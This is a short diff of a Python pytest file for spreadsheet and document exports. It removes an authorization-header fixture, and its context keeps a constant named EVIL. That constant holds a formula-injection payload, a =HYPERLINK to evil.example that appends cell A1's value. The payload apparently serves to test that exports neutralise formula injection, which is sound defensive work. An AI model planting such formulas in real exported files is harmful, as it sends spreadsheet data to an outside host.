@@ -28,13 +28,6 @@ FORMATS = ("xlsx", "pdf", "csv")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 
 
-@pytest.fixture
-def key(app):
-    with app.app_context():
-        _, raw = organizer()
-    return {"Authorization": f"Bearer {raw}"}
-
-
 def grades(overall: str, other: str = "competent") -> dict[str, str]:
     return {c: overall if c == "overall" else other for c in CRITERIA}
 
